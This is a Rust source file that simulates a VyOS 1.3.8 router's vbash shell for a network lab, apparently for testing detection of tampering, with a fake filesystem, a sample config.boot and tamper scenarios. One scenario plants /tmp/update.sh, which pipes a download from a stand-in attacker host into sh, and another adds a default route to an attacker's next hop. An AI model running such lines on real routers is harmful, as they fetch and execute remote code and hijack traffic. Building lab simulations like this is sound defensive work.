//! VyOS 1.3 (equuleus) persona: vbash, the operational mode on top of bash, LF line endings.
//!
//! Rule: op-mode words (`show`, `set terminal`) are answered here in VyOS's own shape; anything else is a
//! Linux command and goes to the Linux persona's parser, so the quoting it refuses is refused here too.
//! Images live under the persistence partition, one directory per installed image.

use super::Reply;
use super::common::{Line, render};
use super::disk::{Config, Disk, FileScenarios, Node, What};
use crate::lab::device::{DeviceCore, Flags, Snapshot};
use crate::lab::vfs::Vfs;

/// The release the lab's routers run.
const RELEASE: &str = "1.3.8";
/// The release BootVariableChanged installs and makes the default boot.
const NEXT_RELEASE: &str = "1.3.9";
/// The release SnapshotCreated adds beside the running one (`add system image` without `set ... default`).
const ALT_RELEASE: &str = "1.3.6";

/// The running image path: `<persistence>/boot/<image>/<image>.squashfs`.
pub(crate) const RUNNING_IMAGE: &str = "/lib/live/mount/persistence/boot/1.3.8/1.3.8.squashfs";
const NEXT_IMAGE: &str = "/lib/live/mount/persistence/boot/1.3.9/1.3.9.squashfs";
const ALT_IMAGE: &str = "/lib/live/mount/persistence/boot/1.3.6/1.3.6.squashfs";

/// Answer to an op-mode line vbash does not know (the shell's own unknown-command text).
pub(crate) const INVALID: &str = "\n  Invalid command: [unknown]\n\n";

const MTIME_IMAGE: u32 = 1_715_000_000;
const MTIME_CONFIG: u32 = 1_716_000_000;

const SHOW_VERSION: &str = "Version:          VyOS 1.3.8
Release train:    equuleus

Built by:         Sentrium S.L.
Built on:         Tue 07 May 2024 09:41 UTC
Build UUID:       6c5d1a3e-0f2b-4a8e-9d7c-2b1e5f4a3c90
Build commit ID:  3f2b1c0d9e8a7b

Architecture:     x86_64
Boot via:         installed image
System type:      KVM guest

Hardware vendor:  QEMU
Hardware model:   Standard PC (i440FX + PIIX, 1996)
Hardware S/N:     {serial}
Hardware UUID:    8a1c6f2e-5b0d-4f4e-9a3c-2f5d1e7b9c01

Copyright:        VyOS maintainers and contributors
";

const CMDLINE: &str = "BOOT_IMAGE=/boot/1.3.8/vmlinuz boot=live rootdelay=5 noautologin \
net.ifnames=0 biosdevname=0 vyos-union=/boot/1.3.8 console=ttyS0,115200 console=tty0\n";

/// `/config/config.boot`, with one secret of each kind the profile redacts. StartupConfigChanged adds a
/// default route to an attacker's next hop.
const CONFIG: Config = Config::plain(
    "/config/config.boot",
    "interfaces {
    ethernet eth0 {
        address 10.0.0.2/24
        hw-id 52:54:00:12:34:56
    }
    loopback lo {
    }
    wireguard wg0 {
        address 10.255.0.1/30
        peer hub {
            allowed-ips 10.255.0.0/30
        }
        private-key aGlkZGVuUHJpdmF0ZUtleUZvclRoZUxhYk9ubHkwMDA9
    }
}
service {
    snmp {
        community labRO {
            authorization ro
        }
    }
    ssh {
        port 22
    }
}
system {
    host-name {name}
    login {
        user netops {
            authentication {
                encrypted-password $6$rounds=656000$labSalt$Qx1Rt5Yu7Io9Pa1Sd3Fg5Hj7Kl9Zx1Cv3Bn5Mq7We9
                plaintext-password \"\"
            }
        }
    }
    ntp {
        server 192.0.2.123 {
        }
    }
    syslog {
        host 192.0.2.10 {
            facility all {
                level info
            }
        }
    }
}
{extra}
// Warning: Do not remove the following line.
// vyos-config-version: \"broadcast-relay@1:cluster@1:config-management@1:system@21\"
// Release version: 1.3.8
",
    "protocols {
    static {
        route 0.0.0.0/0 {
            next-hop 203.0.113.66 {
            }
        }
    }
}",
    MTIME_CONFIG,
);

const DISK: Disk = Disk {
    running: Some((RUNNING_IMAGE, MTIME_IMAGE)),
    next: Some((NEXT_IMAGE, MTIME_CONFIG)),
    fixed: &[
        Node::dir("/config", MTIME_CONFIG),
        Node::dir("/config/scripts", MTIME_IMAGE),
        Node::exec(
            "/config/scripts/vyos-postconfig-bootup.script",
            "#!/bin/sh\n# This script is executed at boot time after VyOS configuration is fully applied.\n",
            MTIME_IMAGE,
        ),
        Node::dir("/config/auth", MTIME_IMAGE),
        Node::dir("/home", MTIME_IMAGE),
        Node::dir("/home/netops", MTIME_CONFIG),
        Node::text("/home/netops/.bashrc", "# ~/.bashrc\n", MTIME_IMAGE),
        Node::dir("/root", MTIME_IMAGE),
        Node::new("/tmp", What::Sticky, MTIME_CONFIG),
        Node::new("/var/tmp", What::Sticky, MTIME_CONFIG),
        Node::dir("/var/log", MTIME_CONFIG),
        Node::text(
            "/var/log/messages",
            "May 14 10:00:00 lab systemd[1]: Started VyOS Router.\n",
            MTIME_CONFIG,
        ),
        Node::dir("/usr/local/bin", MTIME_IMAGE),
        Node::dir("/lib/live/mount/persistence/boot", MTIME_IMAGE),
        Node::dir("/lib/live/mount/persistence/boot/1.3.8", MTIME_IMAGE),
        Node::text(
            "/lib/live/mount/persistence/boot/1.3.8/vmlinuz",
            "MZ\0\0",
            MTIME_IMAGE,
        ),
        Node::dir("/lib/live/mount/persistence/boot/grub", MTIME_IMAGE),
        Node::dir("/proc", MTIME_CONFIG),
        Node::text("/proc/cmdline", CMDLINE, MTIME_CONFIG),
    ],
    config: Some(CONFIG),
    scenarios: Some(
        FileScenarios::at(
            MTIME_CONFIG + 9000,
            (
                "/tmp/update.sh",
                What::Exec("#!/bin/sh\ncurl -s http://203.0.113.66/x | sh\n"),
            ),
            (
                "/var/log/vyatta/vyatta-commit.log",
                "[ 2024-05-15 10:00:00 ] commit\n",
            ),
            (
                "/config/auth/CHG1234-ca.pem",
                "-----BEGIN CERTIFICATE-----\n",
            ),
        )
        .with_alt_image(ALT_IMAGE),
    ),
};

pub(crate) fn build_vfs(core: &DeviceCore, flags: &Flags) -> Vfs {
    DISK.build(core, flags)
}

/// `show system image` in the 1.3 form: one numbered line per image, the default boot image first.
fn system_image(snap: &Snapshot) -> String {
    let mut images: Vec<String> = Vec::new();
    if snap.flags.boot_changed {
        images.push(format!("{NEXT_RELEASE} (default boot)"));
        images.push(format!("{RELEASE} (running image)"));
    } else {
        images.push(format!("{RELEASE} (default boot) (running image)"));
    }
    if snap.flags.snapshot_created {
        images.push(ALT_RELEASE.to_string());
    }
    let mut out = String::from("The system currently has the following image(s) installed:\n\n");
    for (i, image) in images.iter().enumerate() {
        out.push_str(&format!("   {}: {image}\n", i + 1));
    }
    out.push('\n');
    out
}

/// The first words vbash reads as an operational-mode command rather than a program to run.
const OP_WORDS: &[&str] = &[
    "show",
    "set",
    "add",
    "delete",
    "clear",
    "reset",
    "restart",
    "configure",
    "monitor",
];

pub(crate) fn exec(snap: &Snapshot, command: &str) -> Reply {
    let line = Line::new(command);
    match line.keys().as_slice() {
        ["show", "version"] => Reply::text(render(snap, SHOW_VERSION)),
        ["show", "system", "image"] => Reply::text(system_image(snap)),
        ["set", "terminal", "length" | "width", n] if n.parse::<u32>().is_ok() => Reply::text(""),
        [op, ..] if OP_WORDS.contains(op) => Reply::text(format!(
            "\n  Invalid command: {} [{}]\n\n",
            line.words[0],
            line.words[1..].join(" ")
        )),
        // A program by its full path (the profile hashes with /usr/bin/sha512sum so vbash cannot take the
        // word for an op-mode abbreviation): the Linux parser knows coreutils by their names.
        _ => {
            let trimmed = command.trim_start();
            let plain = ["/usr/bin/", "/bin/"]
                .iter()
                .find_map(|p| trimmed.strip_prefix(p))
                .unwrap_or(trimmed);
            super::linux::exec(snap, plain)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn image_paths_name_their_release_twice_and_the_kernel_boots_the_running_one() {
        for (path, release) in [
            (RUNNING_IMAGE, RELEASE),
            (NEXT_IMAGE, NEXT_RELEASE),
            (ALT_IMAGE, ALT_RELEASE),
        ] {
            assert!(path.ends_with(&format!("/boot/{release}/{release}.squashfs")));
        }
        assert!(CMDLINE.contains(&format!(" vyos-union=/boot/{RELEASE} ")));
        assert!(SHOW_VERSION.contains(&format!("VyOS {RELEASE}\n")));
    }
}
